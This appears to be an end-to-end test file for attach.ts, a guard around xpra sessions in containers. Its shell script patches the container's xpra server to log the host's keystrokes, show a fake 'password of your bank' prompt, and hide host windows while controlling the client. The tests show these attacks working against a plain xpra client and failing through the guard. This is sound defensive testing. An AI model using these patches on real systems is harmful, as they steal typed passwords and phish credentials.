// A container that has replaced its own xpra: it grabs the host's keyboard through xpra's client, and writes down what
// comes; it has xpra's client ask for a password, hides the windows of the host, and controls the client.
// The attack is shown to work against a client that somebody starts by hand, and not against attach.ts.

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { join } from "@std/path";
import { type RunningProcess, startProcess } from "../../lib/base/process.ts";
import { eventually, inContainer, mountsRoot, script, sh, startScript } from "./run.ts";
import { needed, testOnOneEngine } from "./sessions.ts";
import { windowWith, xWindows } from "./windows.ts";
import { type EngineName, makeContainer, removeContainer, shareOnEngines } from "./world.ts";

const nameOn = (engine: EngineName): string => `e2e-evil-${engine}`;

/** What the user types into a terminal of the host's. */
const password = "hunter22";

/**
 * Makes the container's xpra hostile, as root: it asks for the keyboard at each repaint, and notes each key; it asks
 * for a password before it greets, while there is a file called challenge in the share; while there is one called
 * desktop, it hides all windows and controls the client at each repaint. A client ends when such a packet comes before
 * the hello.
 */
const replaceXpra = `
cd "$(python3 -c 'import os, xpra; print(os.path.dirname(xpra.__file__))')"
sed -i '/^    def damage(self, wid/a\\        if self.hello_sent: self.send("pointer-grab", wid)' server/source/window.py
sed -i '/^        pressed = packet.get_bool(3)/a\\        open("/home/ubuntu/share/keys", "a").write(keyname + (" " if pressed else "-up "))' \\
  server/subsystem/keyboard.py
sed -i '/log(f"all .* authentication modules passed")/a\\        ask_for_password(self, proto)' server/auth.py
sed -i '/^    def damage(self, wid/a\\        hide_and_control(self)' server/source/window.py
cat >>server/source/window.py <<'EOF'


def hide_and_control(source):
    import os
    if source.hello_sent and os.path.exists("/home/ubuntu/share/desktop"):
        source.send("show-desktop", True)
        source.send("control", "debug", "enable", "focus")
EOF
cat >>server/auth.py <<'EOF'


def ask_for_password(server, proto):
    import os
    if os.path.exists("/home/ubuntu/share/challenge"):
        server.send_challenge(proto, b"0" * 32, {}, "hmac+sha512", "hmac+sha512", "password of your bank")
EOF
grep -q pointer-grab server/source/window.py
grep -q share/keys server/subsystem/keyboard.py
grep -q 'ask_for_password(self' server/auth.py
`;

/** The keys that the container has noted since it was last asked. */
async function notedKeys(engine: EngineName): Promise<string> {
  return await inContainer(engine, nameOn(engine), "cat share/keys 2>/dev/null || true; rm -f share/keys");
}

/** What the last client that was started by hand has printed. */
let printed: string[] = [];

/** Starts a client of the session without attach.ts, as somebody may by hand. */
function startByHand(engine: EngineName, ...options: string[]): RunningProcess {
  const socket = join(mountsRoot, nameOn(engine), "xpra", "evil");
  const closed = ["clipboard", "audio", "notifications", "mmap", "webcam", "opengl"].map((it) => `--${it}=no`);
  const argv = ["xpra", "attach", `socket:${socket}`, "--title=@title@ by hand", ...closed, ...options];
  printed = [];
  return startProcess(argv, { output: { line: (line) => void printed.push(line) } });
}

/** Types the password into a terminal of the host's own, while `show` shows the container's window. */
async function typeBeside(show: () => Promise<void>): Promise<void> {
  const terminal = startProcess(["xterm", "-T", "bank", "-e", "sh", "-c", "read -r line; sleep 600"]);
  try {
    const bank = await windowWith("^bank$");
    await show();
    await sh(["xdotool", "windowactivate", "--sync", bank]);
    // xclock repaints each second, and grabs then.
    await new Promise((resolve) => setTimeout(resolve, 2_500));
    await sh(["xdotool", "type", "--delay", "40", password]);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
  } finally {
    terminal.kill("SIGTERM");
    await terminal.ended;
  }
}

shareOnEngines({
  make: async (engine) => {
    await makeContainer(engine, nameOn(engine));
    await sh([engine, "exec", nameOn(engine), "--", "/bin/sh", "-ec", replaceXpra]);
    const started = await script("attach", engine, [
      "--preset=isolated",
      "--detached",
      "--session=evil",
      nameOn(engine),
      "xclock -update 1",
    ]);
    assertEquals(started.code, 0, started.stderr);
  },
  remove: async (engine) => {
    await script("attach", engine, ["--stop", nameOn(engine), "--all"]);
    await removeContainer(engine, nameOn(engine));
  },
});

/** Shows the session by attach.ts until `action` is over and it has said that it drops all of these. Returns what it said. */
async function throughAttach(
  engine: EngineName,
  { args, dropped }: { args: readonly string[]; dropped: readonly string[] },
  action: (window: string) => Promise<unknown>,
): Promise<string> {
  let said = "";
  const attach = startScript("attach", engine, [...args, "--session=evil", nameOn(engine)], {
    output: { line: (line) => void (said += `${line}\n`) },
  });
  try {
    const window = await windowWith(`\\[${nameOn(engine)}\\] xclock`);
    // xclock repaints each second, and sends then.
    for (const type of dropped) {
      const words = `The container sends "${type}", which is dropped`;
      await eventually(words, () => Promise.resolve(said.includes(words)));
    }
    await action(window);
  } finally {
    attach.kill("SIGINT");
    await attach.ended;
  }
  return said;
}

testOnOneEngine(
  "hostile: an xpra that grabs the keyboard reads what is typed elsewhere, without the guard",
  needed,
  async (engine) => {
    const client = startByHand(engine, "--splash=no");
    try {
      await typeBeside(async () =>
        void await windowWith("xclock by hand").catch((error) => {
          throw new Error(`${error.message}; xpra's client printed:\n${printed.join("\n")}`);
        })
      );
      const keys = await notedKeys(engine);
      assertStringIncludes(keys.replaceAll(/\S+-up /g, "").replaceAll(" ", ""), password, keys);
    } finally {
      client.kill("SIGTERM");
      await client.ended;
    }
  },
);

testOnOneEngine(
  "hostile: an xpra that grabs the keyboard gets no key through attach.ts, and is told of",
  needed,
  async (engine) => {
    const options = { args: ["--preset=isolated"], dropped: ["pointer-grab"] };
    const said = await throughAttach(engine, options, async (window) => {
      await typeBeside(() => Promise.resolve());
      assertEquals(await notedKeys(engine), "");
      // A key that is typed into the container's own window is the container's.
      await sh(["xdotool", "windowactivate", "--sync", window, "type", "x"]);
      await eventually("a key of the container's own", async () => (await notedKeys(engine)).includes("x"));
    });
    assert(!said.includes("\x1b"));
  },
);

const dialog = "^Xpra Server Authentication:$";

testOnOneEngine(
  "hostile: an xpra asks for a password by a dialog without a mark, without the guard",
  needed,
  async (engine) => {
    await inContainer(engine, nameOn(engine), "touch share/challenge");
    // Without its splash, xpra 6.5.5 fails at its own dialog.
    const client = startByHand(engine, "--splash=yes");
    try {
      await windowWith(dialog);
    } finally {
      client.kill("SIGTERM");
      await client.ended;
    }
  },
);

testOnOneEngine(
  "hostile: an xpra that asks for a password is not heard by attach.ts, and is told of",
  needed,
  async (engine) => {
    try {
      await throughAttach(
        engine,
        { args: ["--preset=isolated"], dropped: ["challenge"] },
        async () => assertEquals(await xWindows(dialog), []),
      );
    } finally {
      await inContainer(engine, nameOn(engine), "rm share/challenge");
    }
  },
);

/** Whether the host's window manager hides all windows to show the desktop. */
async function showsDesktop(): Promise<boolean> {
  return / = 1$/.test(await sh(["xprop", "-root", "_NET_SHOWING_DESKTOP"]));
}

/** Has the window manager show the windows again (EWMH, _NET_SHOWING_DESKTOP). */
async function showWindowsAgain(): Promise<void> {
  const request = `
from Xlib import X, display
from Xlib.protocol.event import ClientMessage
connection = display.Display()
root = connection.screen().root
end = ClientMessage(window=root, client_type=connection.get_atom("_NET_SHOWING_DESKTOP"), data=(32, [0] * 5))
root.send_event(end, event_mask=X.SubstructureRedirectMask | X.SubstructureNotifyMask)
connection.sync()
`;
  await sh(["/usr/bin/python3", "-c", request]);
  await eventually("the windows", async () => !await showsDesktop());
}

testOnOneEngine(
  "hostile: an xpra hides the host's windows and controls the client, without the guard",
  needed,
  async (engine) => {
    await inContainer(engine, nameOn(engine), "touch share/desktop");
    const socket = join(mountsRoot, nameOn(engine), "xpra", "evil");
    let output = "";
    const argv = ["xpra", "attach", `socket:${socket}`, "--splash=no", "--audio=no", "--opengl=no"];
    const client = startProcess(argv, { output: { line: (line) => void (output += `${line}\n`) } });
    try {
      await eventually("the desktop without windows", showsDesktop);
      await eventually(
        "a client that is controlled",
        () => Promise.resolve(/focus/.test(output)),
      );
    } finally {
      client.kill("SIGTERM");
      await client.ended;
      await showWindowsAgain();
    }
  },
);

testOnOneEngine(
  "hostile: an xpra hides nothing of the host's and controls nothing through attach.ts, and is told of",
  needed,
  async (engine) => {
    try {
      await throughAttach(
        engine,
        { args: [], dropped: ["show-desktop", "control"] },
        async () => assert(!await showsDesktop()),
      );
    } finally {
      await inContainer(engine, nameOn(engine), "rm share/desktop");
    }
  },
);
